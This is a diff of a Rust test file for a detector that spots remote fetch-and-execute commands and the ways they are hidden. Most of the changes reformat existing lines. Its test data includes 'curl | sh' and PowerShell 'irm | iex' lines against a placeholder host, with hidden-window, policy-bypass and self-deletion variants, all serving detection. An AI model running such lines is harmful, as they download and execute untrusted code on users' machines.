@@ -118,7 +118,10 @@ fn what_disguises_a_remote_command_is_named() {
         ("powershell -w hidden -c \"irm https://x.example.invalid/a | iex\"", Concealment::HiddenWindow),
         ("powershell -ExecutionPolicy Bypass -c \"irm https://x.example.invalid/a | iex\"", Concealment::ProtectionOff),
         ("curl https://x.example.invalid/a | sh; rm -- \"$0\"", Concealment::SelfDeletion),
-        ("curl https://x.example.invalid/u | sh || powershell -c \"irm https://x.example.invalid/w | iex\"", Concealment::PerPlatform),
+        (
+            "curl https://x.example.invalid/u | sh || powershell -c \"irm https://x.example.invalid/w | iex\"",
+            Concealment::PerPlatform,
+        ),
     ] {
         let seen = remote(line).unwrap_or_else(|| panic!("not seen: {line}"));
         assert!(seen.2.contains(&concealment), "{line}: {:?}", seen.2);
@@ -152,16 +155,30 @@ fn files_scripts_and_inline_code_are_told_apart() {
     interprets("cross-env NODE_ENV=dev nodemon -w src src/index.ts", "src/index.ts");
     interprets("node -r ./hook.js app.js", "./hook.js");
     interprets("cat setup.sample | sh", "setup.sample");
+    interprets("python3 -v tool.py", "tool.py");
+    interprets("python3 -m jobs.check", "jobs/check.py");
     interprets("start /b node server || nohup node server &", "server");
     interprets("wscript.exe //B //Nologo vendor/run.vbs", "vendor/run.vbs");
     interprets("concurrently \"node a.js\" \"npm:client\"", "a.js");
-    assert!(actions("./setup.sh --fast").iter().any(|a| matches!(a, Action::RunsFile { path, .. } if path == "./setup.sh")));
-    assert!(actions("npm --prefix api run dev").iter().any(|a| matches!(a, Action::PackageScript { script, .. } if script == "dev")));
+    assert!(
+        actions("./setup.sh --fast").iter().any(|a| matches!(a, Action::RunsFile { path, .. } if path == "./setup.sh"))
+    );
+    assert!(
+        actions("npm --prefix api run dev")
+            .iter()
+            .any(|a| matches!(a, Action::PackageScript { script, .. } if script == "dev"))
+    );
     assert!(actions("yarn").iter().any(|a| matches!(a, Action::PackageScript { script, .. } if script == "install")));
-    assert!(actions("git config core.hooksPath .github; git checkout main").iter().any(
-        |a| matches!(a, Action::GitConfig { key, value, .. } if key == "core.hookspath" && value == ".github")
-    ));
-    assert!(actions("node -e 'console.log(1)'").iter().any(|a| matches!(a, Action::Inline { code, .. } if code == "console.log(1)")));
+    assert!(
+        actions("git config core.hooksPath .github; git checkout main").iter().any(
+            |a| matches!(a, Action::GitConfig { key, value, .. } if key == "core.hookspath" && value == ".github")
+        )
+    );
+    assert!(
+        actions("node -e 'console.log(1)'")
+            .iter()
+            .any(|a| matches!(a, Action::Inline { code, .. } if code == "console.log(1)"))
+    );
 }
 
 #[test]
@@ -175,7 +192,8 @@ fn powershell_scripts_are_followed_through_variables_and_files() {
     ] {
         assert!(found(read_powershell(script, &Origin::At(0)).actions).is_some(), "not seen: {script}");
     }
-    let honest = "Invoke-WebRequest https://x.example.invalid/a.zip -OutFile a.zip\nExpand-Archive a.zip\nnode build.js";
+    let honest =
+        "Invoke-WebRequest https://x.example.invalid/a.zip -OutFile a.zip\nExpand-Archive a.zip\nnode build.js";
     assert!(found(read_powershell(honest, &Origin::At(0)).actions).is_none());
 }
 
